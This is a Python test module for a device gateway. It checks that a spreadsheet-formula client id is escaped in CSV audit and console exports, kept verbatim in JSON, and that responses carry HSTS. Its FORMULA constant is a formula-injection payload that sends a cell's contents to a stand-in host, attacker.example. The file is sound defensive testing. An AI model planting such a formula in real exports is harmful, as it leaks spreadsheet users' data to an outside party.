"""Exports a spreadsheet opens safely, and HSTS, against the real services.

A device connects to the real gateway with a client id that is a spreadsheet formula; the
gateway refuses it (another device's id is required) and records it. Both CSV exports
(`devicegate audit --format csv`, the console's export.csv) show the cell as text; both
JSON exports keep it verbatim.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import ssl
from collections.abc import AsyncIterator

import aiohttp
import pytest
from typer.testing import CliRunner

from provisioning.commands.cli import app
from provisioning.http.server import BASE_HEADERS
from tests.console.conftest import log_in
from tests.gateway.clients import RawClient
from tests.gateway.conftest import DeviceFactory, Harness
from tests.provisioning.conftest import Server

FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"click")'


@pytest.fixture
async def console(
    server: Server, client_context: ssl.SSLContext, admin_key: str
) -> AsyncIterator[aiohttp.ClientSession]:
    """A logged-in console session on the hardening listener."""
    connector = aiohttp.TCPConnector(ssl=client_context)
    async with aiohttp.ClientSession(
        base_url=server.url, connector=connector, cookie_jar=aiohttp.CookieJar(unsafe=True)
    ) as session:
        await log_in(session, admin_key)
        yield session


def client_ids(text: str) -> list[str]:
    return [row["client_id"] for row in csv.DictReader(io.StringIO(text))]


async def test_a_formula_client_id_is_text_in_csv_and_verbatim_in_json(
    harness: Harness,
    make_device: DeviceFactory,
    console: aiohttp.ClientSession,
    database_url: str,
) -> None:
    device = make_device("formula")
    mark = harness.mark()
    with RawClient(harness.port, device, device.chain, version=4) as client:
        assert client.connect(FORMULA).reason_code == 0x02  # identifier rejected
    (row,) = harness.wait_events(after=mark, type="connect")
    assert (row["reason"], row["client_id"]) == ("client_id_mismatch", FORMULA)

    def cli(fmt: str) -> str:
        result = CliRunner().invoke(
            app,
            ["--database-url", database_url, "audit", "--device", device.device_id,
             "--type", "connect", "--format", fmt],
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        return result.stdout

    # The command runs its own event loop: a thread of its own.
    assert client_ids(await asyncio.to_thread(cli, "csv")) == ["'" + FORMULA]
    lines = (await asyncio.to_thread(cli, "json")).splitlines()
    assert [json.loads(line)["client_id"] for line in lines] == [FORMULA]

    query = {"device": device.device_id, "type": "connect"}
    async with console.get("/console/events/export.csv", params=query) as response:
        assert response.status == 200
        assert client_ids(await response.text()) == ["'" + FORMULA]
    async with console.get("/console/events/export.json", params=query) as response:
        lines = (await response.text()).splitlines()
        assert [json.loads(line)["client_id"] for line in lines] == [FORMULA]


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/healthz", 200),
        ("/v1/tokens", 401),  # a problem document
        ("/nowhere", 404),
        ("/console/login", 200),
        ("/console/static/console.css", 200),
        ("/console/", 303),
    ],
)
async def test_every_response_carries_hsts(
    server: Server, http: aiohttp.ClientSession, path: str, status: int
) -> None:
    async with http.get(f"{server.url}{path}", allow_redirects=False) as response:
        assert response.status == status
        assert (
            response.headers["Strict-Transport-Security"]
            == BASE_HEADERS["Strict-Transport-Security"]
        )
        assert BASE_HEADERS["Strict-Transport-Security"] == "max-age=31536000"
